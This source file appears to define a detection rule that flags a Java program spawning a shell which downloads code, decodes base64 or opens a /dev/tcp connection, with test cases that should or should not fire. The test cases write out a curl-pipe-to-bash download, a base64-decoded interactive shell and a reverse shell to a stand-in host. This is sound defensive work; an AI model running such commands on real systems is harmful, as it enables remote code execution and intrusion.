import { commandRule } from "../../command-rule.js";
import { ancestryOf, fetchers, find, intoShell, parentOf } from "../../shell/look.js";

/** A Java program started a shell that fetches or asks about the host: injections into logging or serialisation end like this. */
export const javaStartedDownloader = commandRule({
  id: "java-started-downloader",
  alertType: "Picket_JavaStartedDownloader",
  name: "Java program started a shell that fetches",
  severity: "High",
  about:
    "A Java program started a shell that fetches or asks about the host: injections into logging or serialisation end like this.",
  tactics: ["Execution", "Initial Access"],
  techniques: ["T1190", "T1203", "T1059.004"],
  falsePositives: [
    "Build servers run their steps from Java; those that only build are left alone, those that fetch with curl need an exception.",
  ],
  parents: ["java"],
  sees: (reading, event) => {
    if (
      !/\/java$/.test(parentOf(event)) ||
      /(?:jenkins|agent\.jar|gradle|maven|teamcity|bamboo|buildAgent|android|bazel)/i.test(ancestryOf(event))
    )
      return undefined;
    return (
      intoShell(reading, fetchers) ??
      intoShell(reading, /^base64$/) ??
      (/\/dev\/tcp\//.test(reading.plain) ? reading.plain.slice(0, 200) : undefined) ??
      find(
        reading,
        /^(?:curl|wget)$/,
        ({ text }) =>
          /https?:\/\/\d+\.\d+\.\d+\.\d+/.test(text) &&
          /\s(?:-o|-O|>)\s*\/?(?:tmp|var\/tmp|dev\/shm)/.test(text),
      )
    );
  },
  did: "made a Java program start a shell",
  because: "this program answers strangers and now fetches or asks about its host",
  fires: [
    {
      line: "sh -c curl -s http://203.0.113.9/i.sh|bash",
      parent: "/usr/bin/java",
      parentLine: "java -jar app.jar",
    },
    {
      line: "bash -c {echo,aWQ=}|{base64,-d}|{bash,-i}",
      parent: "/usr/lib/jvm/bin/java",
      parentLine: "java -jar app.jar",
    },
    {
      line: "/bin/bash -c bash -i >& /dev/tcp/203.0.113.9/1 0>&1",
      parent: "/usr/bin/java",
      parentLine: "java Main",
    },
  ],
  silent: [
    {
      line: "sh -c curl -s http://203.0.113.9/i.sh|bash",
      parent: "/usr/bin/java",
      parentLine: "java -jar /opt/jenkins.war",
    },
    { line: "sh -c uname -m", parent: "/usr/bin/java", parentLine: "java -jar app.jar" },
    {
      line: "curl -fsS http://127.0.0.1:8080/health",
      parent: "/usr/bin/java",
      parentLine: "java -jar app.jar",
    },
    {
      line: "sh -c curl https://repo.example.net/a.jar -o lib/a.jar",
      parent: "/usr/bin/java",
      parentLine: "java -cp gradle-wrapper.jar",
    },
    { line: "id -u", parent: "/usr/bin/java", parentLine: "java -jar app.jar" },
  ],
});
